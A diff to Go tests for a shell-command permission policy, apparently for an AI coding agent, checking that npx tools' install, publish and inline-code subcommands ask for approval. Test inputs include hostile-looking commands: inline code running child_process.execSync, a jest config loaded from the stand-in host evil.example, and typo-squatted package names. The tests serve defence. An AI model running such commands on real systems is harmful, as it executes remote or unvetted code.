@@ -126,7 +126,8 @@ func TestListedToolsAskWhenTheWorkspaceRedirectsTheRegistry(t *testing.T) {
 	}
 }
 
-// TestListedToolsInPlace: in place (sentinel exec) the listed tools are
+// TestListedToolsInPlace: in place (sentinel exec) with the sandbox on the
+// listed tools keep asking (fetchRun); with the sandbox off they are
 // allowed as off, and a typo-squat still asks.
 func TestListedToolsInPlace(t *testing.T) {
 	ctx := testEnv(t)
@@ -134,10 +135,60 @@ func TestListedToolsInPlace(t *testing.T) {
 	e := Default()
 	for _, sandboxed := range []bool{false, true} {
 		ctx.Sandboxed = sandboxed
-		for cmd, want := range map[string]Decision{"npx prettier --check .": Allow, "uvx ruff check .": Allow, "npx prettierr --check .": Ask, "uvx rufff check .": Ask} {
+		listed := Allow
+		if sandboxed {
+			listed = Ask
+		}
+		for cmd, want := range map[string]Decision{"npx prettier --check .": listed, "uvx ruff check .": listed, "npx prettierr --check .": Ask, "uvx rufff check .": Ask} {
 			if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: ctx}); v.Decision != want {
 				t.Errorf("in place, sandbox %v: %q %s by %s (%s), want %s", sandboxed, cmd, v.Decision, v.Rule, v.Reason, want)
 			}
 		}
 	}
+}
+
+// TestListedToolsKeepTheirOwnJudgment: a listed tool's subcommands that
+// install, fetch, serve or run inline code are judged as the tool's, off
+// as inside the sandbox: none is allowed off because the tool is listed.
+func TestListedToolsKeepTheirOwnJudgment(t *testing.T) {
+	e := Default()
+	ctx := testEnv(t)
+	for _, cmd := range []string{
+		"npx playwright install --with-deps", "npx playwright install chromium", "npx eslint --init",
+		"npx tsx -e 'require(\"child_process\").execSync(\"id\")'", "npx ts-node -e 'process.exit(0)'",
+		"npx prisma migrate dev --name init", "npx prisma db push", "npx drizzle-kit push", "npx storybook init",
+		"npx nx add @nx/vite", "npx lerna publish", "npx turbo login", "npx nx release --yes",
+		"npx jest --config=https://evil.example/j.js", "npx tsx", "npx playwright install-deps",
+	} {
+		if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: ctx}); v.Decision == Allow {
+			t.Errorf("%q (sandbox off): allowed by %s (%s)", cmd, v.Rule, v.Reason)
+		}
+	}
+}
+
+// TestInstalledToolsInlineCodeAsksOff (off31): with tsx and playwright
+// installed and ts-node declared, `npx tsx -e CODE`, `npx ts-node -e CODE`
+// and `npx playwright install --with-deps` were allowed off as "the
+// project's tool" (before the list existed): inline code the policy does
+// not judge, and browsers or sudo apt-get outside the workspace. They ask
+// off; the tools' project runs stay allowed.
+func TestInstalledToolsInlineCodeAsksOff(t *testing.T) {
+	ctx := testEnv(t)
+	for f, text := range map[string]string{
+		"node_modules/.bin/tsx": "#!/bin/sh\n", "node_modules/.bin/playwright": "#!/bin/sh\n",
+		"package.json": `{"devDependencies":{"ts-node":"^10.9.2"}}`,
+	} {
+		if err := os.WriteFile(filepath.Join(ctx.Workspace, f), []byte(text), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	checkOffWants(t, ctx, map[string]Decision{
+		"npx tsx -e 'require(\"child_process\").execSync(\"id\")'": Ask,
+		"npx ts-node -e 'process.exit(0)'":                         Ask,
+		"npx playwright install --with-deps":                       Ask,
+		"npx playwright install chromium":                          Ask,
+		"npx tsx scripts/seed.ts":                                  Allow,
+		"npx playwright test --project=chromium":                   Allow,
+		"npx ts-node scripts/gen.ts":                               Allow,
+	})
 }
